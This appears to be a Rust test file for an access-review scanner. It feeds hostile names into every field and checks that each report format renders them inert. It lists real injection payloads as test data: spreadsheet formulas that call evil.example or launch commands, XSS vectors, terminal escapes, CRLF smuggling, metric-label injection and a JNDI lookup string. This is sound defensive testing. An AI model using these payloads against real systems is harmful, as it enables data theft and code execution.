//! Hostile names in every field that a system, a roster or a colleague can fill.

use serde_json::Value;

use crate::company::{Company, NOW, Run, list, sha256};

const OUTPUTS: &str = "\
\x20 - { format: table, path: out/report.txt }
\x20 - { format: ndjson, path: out/report.ndjson }
\x20 - { format: ocsf, path: out/findings.ocsf.ndjson }
\x20 - { format: sarif, path: out/findings.sarif, persons: name }
\x20 - { format: csv, path: out/names.csv, persons: name }
\x20 - { format: markdown, path: out/report.md, persons: name }
\x20 - { format: html, path: out/report.html, persons: name }
metrics: { textfile: out/holdover.prom }
exceptions: exceptions.yaml
";

/// Names that do something somewhere.
pub(crate) const NAMES: [&str; 24] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "\"=1+1",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "\u{9b}31mred",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "[click](http://evil.example/)",
    "![image](http://evil.example/x.png)",
    "@security-team please #1 !2 CVE-1",
    "# heading\n## another\n- item",
    "| cell | cell |\n|---|---|",
    "`code` ``` fence ```",
    "a\"} 1\nholdover_up 99\n{x=\"",
    "\u{202e}gnp.exe\u{202c}\u{200b}",
    "one\r\nGET / HTTP/1.1\r\n\r\ntwo",
    "nul\u{0}byte \u{feff}\u{2028}line",
    "{{ self.secret() }} ${jndi:ldap://evil.example/a} %s%n ${HOME}",
];

fn json(text: &str) -> String {
    serde_json::to_string(text).expect("JSON")
}

pub(crate) fn hostile_company() -> Company {
    let mut company = Company::new();
    company.extra = String::from(OUTPUTS);
    company.scopes.push(String::from("sessions"));
    company.records.clear();
    for (number, name) in NAMES.iter().enumerate() {
        // A roster with a NUL is no text file and is held; that has its own test.
        let row = csv_field(&name.replace('\0', ""));
        company.people.push(format!(
            "h-{number},employee,ended,{row},h{number}@acme.example,2020-01-01,2026-07-31,Europe/Berlin,2026-08-01T00:00:00Z"
        ));
        let name = json(name);
        let id = json(&format!("{number}/{}", NAMES[number]));
        company.records.push(format!(
            r#"{{"record":"access","scope":"accounts","kind":"account","grant_id":{id},"grant_display":{name},"status":"enabled","privilege":"write","target":{name},"managed_by":{name},"evidence":{name},"created_at":"2023-04-01T08:00:00Z","last_used_at":"2026-08-02T10:00:00Z","expires_at":null,"holders":[{{"relation":"holder","provider_id":{id},"login":{name},"name":{name},"email":"h{number}@acme.example"}}]}}"#
        ));
        company.records.push(format!(
            r#"{{"record":"access","scope":"api-tokens","kind":"api_token","grant_id":{id},"grant_display":{name},"status":"disabled","target":{name},"parent":{id},"created_at":"2023-04-01T08:00:00Z","last_used_at":null,"expires_at":null}}"#
        ));
        company.records.push(format!(
            r#"{{"record":"access","scope":"api-tokens","kind":"api_token","grant_id":{stranger},"grant_display":{name},"status":"enabled","target":{name},"holders":[{{"relation":"holder","login":{name}}}]}}"#,
            stranger = json(&format!("stranger {number}/{}", NAMES[number]))
        ));
        company.records.push(format!(
            r#"{{"record":"access","scope":"sessions","kind":"session","grant_id":{id},"client":{name},"status":"enabled","parent":{id},"created_at":"2023-04-01T08:00:00Z"}}"#
        ));
        company
            .records
            .push(format!(r#"{{"record":"gap","scope":"sessions","part":{name},"cause":"denied","detail":{name}}}"#));
        // A field that cannot be decoded is told with its place.
        company
            .records
            .push(format!(r#"{{"record":"access","scope":"sessions","kind":{name},"grant_id":{id},"status":{name}}}"#));
    }
    let mut apps = String::from("name,owner\ncrm,sales\n");
    for name in NAMES {
        let name = name.replace('\0', "");
        apps.push_str(&format!("{},{}\n", csv_field(&format!("app {name}")), csv_field(&name)));
    }
    company.write("apps.csv", &apps);
    company.extra.push_str(&format!("known_apps: {{ path: apps.csv, sha256: {} }}\n", sha256(apps.as_bytes())));
    company.write(
        "exceptions.yaml",
        format!(
            "version: 1\nexceptions:\n  - id: EX-2026-0001\n    type: transition\n    scope: {{ person_id: h-9, system: crm, access_kinds: [session] }}\n    reason: {}\n    requested_by: p-3\n    approved_by: [p-2]\n    approved_at: 2026-08-01T08:00:00Z\n    expires_at: 2026-08-07T08:00:00Z\n    review: {{ owner: p-2 }}\n",
            json(&format!("<script>alert(1)</script> [click](http://evil.example/) {}", NAMES[13]))
        ),
    );
    company
}

fn csv_field(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

pub(crate) fn run() -> (Company, Run) {
    let company = hostile_company();
    company.write_all();
    let run = company.holdover(&["scan", "--as-of", NOW, "-v", "-v", "-v"]);
    assert!(run.code == 4, "exit {}\n{}", run.code, run.stderr);
    assert!(list(&run.report()["findings"]).len() >= NAMES.len(), "the names came in: {}", run.stdout);
    (company, run)
}

pub(crate) fn read(company: &Company, name: &str) -> String {
    std::fs::read_to_string(company.path().join(name)).unwrap_or_else(|error| panic!("{name}: {error}"))
}

/// No character that a terminal obeys or that turns a line around.
#[track_caller]
pub(crate) fn is_plain(what: &str, text: &str) {
    for (number, line) in text.split('\n').enumerate() {
        let wrong = line.chars().find(|character| {
            character.is_control()
                || matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
        });
        assert!(wrong.is_none(), "{what}, line {}: {:?} in {line:?}", number + 1, wrong);
    }
}

#[test]
fn people_at_a_terminal_see_text_only() {
    let (company, run) = run();
    is_plain("standard output", &run.stdout);
    is_plain("standard error", &run.stderr);
    is_plain("the table", &read(&company, "out/report.txt"));
    let print = run.report()["findings"][0]["fingerprint"].as_str().expect("a fingerprint").to_owned();
    for arguments in [
        &["explain", &print][..],
        &["systems", "list"],
        &["systems", "list", "--format", "markdown"],
        &["exceptions", "list", "--as-of", NOW],
        &["roster", "validate", "--explain", "--as-of", NOW],
        &["report"],
    ] {
        let run = company.holdover(arguments);
        assert!(!run.stdout.is_empty(), "{arguments:?}: {}", run.stderr);
        is_plain(&format!("{arguments:?}"), &run.stdout);
        is_plain(&format!("{arguments:?}"), &run.stderr);
    }
    // Shown, not swallowed.
    assert!(run.stdout.contains("\\u{1b}[31mred"), "{}", run.stdout);
}

#[test]
fn spreadsheets_get_no_formula_and_lose_nothing() {
    let (company, _run) = run();
    for name in ["out/findings.csv", "out/names.csv"] {
        let text = read(&company, name);
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
        let headers = reader.headers().expect("a header").clone();
        let mut rows = 0;
        for record in reader.records() {
            let record = record.expect("every row has the columns of the header");
            rows += 1;
            for (header, cell) in headers.iter().zip(&record) {
                let inner = cell.trim_start_matches([' ', '"', '\u{a0}']);
                let number = cell.parse::<i64>().is_ok();
                assert!(
                    number || !inner.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
                    "{name}, {header}: {cell:?}"
                );
                assert!(!cell.contains('\0'), "{name}, {header}: {cell:?}");
            }
        }
        assert!(rows > 3 * NAMES.len(), "{rows} rows");
    }
}

#[test]
fn json_carries_the_very_names_and_nothing_else() {
    let (company, run) = run();
    let report = run.report();
    let displays: std::collections::BTreeSet<&str> =
        list(&report["findings"]).iter().filter_map(|finding| finding["grant_display"].as_str()).collect();
    for name in NAMES {
        assert!(displays.contains(name), "{name:?} is unchanged when read back: {displays:?}");
    }
    for name in ["out/report.json", "out/findings.sarif", "out/run.json", "state/run.json"] {
        let text = read(&company, name);
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{0}') && !text.contains('\u{202e}'),
            "{name}: escaped in the text"
        );
        serde_json::from_str::<Value>(&text).unwrap_or_else(|error| panic!("{name}: {error}"));
    }
    for name in ["out/report.ndjson", "out/findings.ocsf.ndjson", "state/ledger.ndjson"] {
        let text = read(&company, name);
        for line in text.lines() {
            let line = line.split_once(' ').filter(|_| !line.starts_with('{')).map_or(line, |(_, rest)| rest);
            serde_json::from_str::<Value>(line).unwrap_or_else(|error| panic!("{name}: {error}: {line}"));
        }
        assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}'), "{name}");
    }
}

#[test]
fn code_scanning_pages_get_no_link_and_no_mark_up() {
    let (company, _run) = run();
    let log: Value = serde_json::from_str(&read(&company, "out/findings.sarif")).expect("JSON");
    let results = list(&log["runs"][0]["results"]);
    assert!(results.len() >= NAMES.len());
    for result in results {
        let text = result["message"]["text"].as_str().expect("a text");
        assert!(!text.contains("](http") || text.contains("\\["), "a link that is not escaped: {text}");
        assert!(result["message"]["markdown"].is_null(), "plain text only");
        is_plain("a message", text);
    }
}

#[test]
fn a_page_has_no_element_that_the_template_does_not_have() {
    use html5gum::{Token, Tokenizer};
    let (company, _run) = run();
    let page = read(&company, "out/report.html");
    let mut text = String::new();
    for token in Tokenizer::new(&page) {
        let token = token.expect("memory");
        match token {
            Token::StartTag(tag) => {
                let name = String::from_utf8_lossy(&tag.name).into_owned();
                assert!(
                    !matches!(
                        name.as_str(),
                        "script"
                            | "img"
                            | "svg"
                            | "iframe"
                            | "object"
                            | "embed"
                            | "form"
                            | "input"
                            | "link"
                            | "base"
                            | "a"
                    ),
                    "an element <{name}>"
                );
                for (attribute, value) in &tag.attributes {
                    let attribute = String::from_utf8_lossy(attribute).into_owned();
                    let value = String::from_utf8_lossy(&value.value).into_owned();
                    assert!(
                        !attribute.starts_with("on") && attribute != "style" && attribute != "src",
                        "<{name} {attribute}={value:?}>"
                    );
                    assert!(
                        !value.contains("javascript:") && !value.contains("evil.example"),
                        "<{name} {attribute}={value:?}>"
                    );
                }
            }
            Token::String(string) => text.push_str(&String::from_utf8_lossy(&string)),
            Token::EndTag(_) | Token::Comment(_) | Token::Doctype(_) | Token::Error(_) => {}
        }
    }
    assert!(text.contains("<script>alert(1)</script>"), "shown as text");
    assert!(text.contains("<img src=x onerror=alert(1)>"));
    assert!(page.contains("default-src 'none'"), "and a policy that allows no script");
    is_plain("the page", &page);
}

#[test]
fn tickets_and_chats_get_no_link_no_mention_and_no_heading() {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let (company, _run) = run();
    let page = read(&company, "out/report.md");
    let headings_of_a_quiet_run = {
        let quiet = Company::new();
        let mut quiet = quiet;
        quiet.extra = String::from("  - { format: markdown, path: out/report.md }\n");
        quiet.write_all();
        quiet.scan().expect(1);
        let text = read(&quiet, "out/report.md");
        text.lines().filter(|line| line.starts_with("# ")).count()
    };
    let mut in_code = false;
    let mut titles = 0;
    for event in Parser::new_ext(&page, Options::all()) {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => assert!(dest_url.starts_with('#'), "a link to {dest_url}"),
            Event::Start(Tag::Image { dest_url, .. }) => panic!("an image {dest_url}"),
            Event::Html(html) | Event::InlineHtml(html) => panic!("HTML {html}"),
            Event::Start(Tag::Heading { level: pulldown_cmark::HeadingLevel::H1, .. }) => titles += 1,
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(pulldown_cmark::TagEnd::CodeBlock) => in_code = false,
            Event::Text(text) if !in_code => {
                assert!(!text.contains("@security-team") && !text.contains("evil.example"), "outside of code: {text}");
            }
            _ => {}
        }
    }
    assert_eq!(titles, headings_of_a_quiet_run, "no heading of somebody else's");
    assert!(page.contains("@security-team"), "shown, as code");
    is_plain("the page", &page);
    // The check list of systems is Markdown too.
    let systems = company.holdover(&["systems", "list", "--format", "markdown"]);
    systems.expect(0);
    for event in Parser::new_ext(&systems.stdout, Options::all()) {
        match event {
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => panic!("a link to {dest_url}"),
            Event::Html(html) | Event::InlineHtml(html) => panic!("HTML {html}"),
            Event::Text(text) => assert!(!text.contains("@security-team"), "a mention: {text}"),
            _ => {}
        }
    }
    let columns = |line: &str| line.replace("\\|", "").matches('|').count();
    let first = columns(systems.stdout.lines().next().expect("a line"));
    for line in systems.stdout.lines() {
        assert_eq!(columns(line), first, "{line}");
    }
}

#[test]
fn metrics_have_labels_of_closed_sets_only() {
    let (company, _run) = run();
    let text = read(&company, "out/holdover.prom");
    let mut lines = 0;
    for line in text.lines() {
        if line.starts_with("# HELP holdover_") || line.starts_with("# TYPE holdover_") {
            continue;
        }
        lines += 1;
        let (name, value) = line.rsplit_once(' ').unwrap_or_else(|| panic!("no value: {line}"));
        assert!(value.parse::<f64>().is_ok(), "{line}");
        assert!(name.starts_with("holdover_"), "{line}");
        let labels = name.split_once('{').map_or("", |(_, labels)| labels.trim_end_matches('}'));
        for label in labels.split("\",").filter(|label| !label.is_empty()) {
            let (key, value) = label.split_once("=\"").unwrap_or_else(|| panic!("no label: {label} in {line}"));
            assert!(key.chars().all(|letter| letter.is_ascii_lowercase() || letter == '_'), "{line}");
            let value = value.trim_end_matches('"');
            assert!(value.chars().all(|letter| letter.is_ascii_alphanumeric() || "_.-+: ".contains(letter)), "{line}");
        }
        for person in ["h-1", "h1@", "evil", "alert", "security-team"] {
            assert!(!line.contains(person), "{person}: {line}");
        }
    }
    assert!(lines > 20 && lines < 2_000, "{lines} series");
}

#[test]
fn hostile_file_names_are_told_and_not_obeyed() {
    for name in ["a\u{1b}[31mb.ndjson", "<script>.ndjson", "=1+1.ndjson", "x\u{202e}y.ndjson"] {
        let mut company = Company::new();
        company.extra = String::from(OUTPUTS);
        company.write("exceptions.yaml", "version: 1\nexceptions: []\n");
        company.write_all();
        company.scan().expect(1);
        company.export_name = json(name);
        company.write("holdover.yaml", company.config());
        let run = company.scan_at("2026-08-04T06:00:00Z");
        run.expect(4);
        is_plain("standard output", &run.stdout);
        is_plain("standard error", &run.stderr);
        for page in ["out/report.html", "out/report.md", "out/report.txt"] {
            let text = read(&company, page);
            is_plain(page, &text);
            assert!(page != "out/report.html" || !text.contains("<script>"), "{page}");
        }
        // And one that is there is read.
        company.write(name, company.export());
        company.scan_at("2026-08-05T06:00:00Z").expect(1);
    }
}
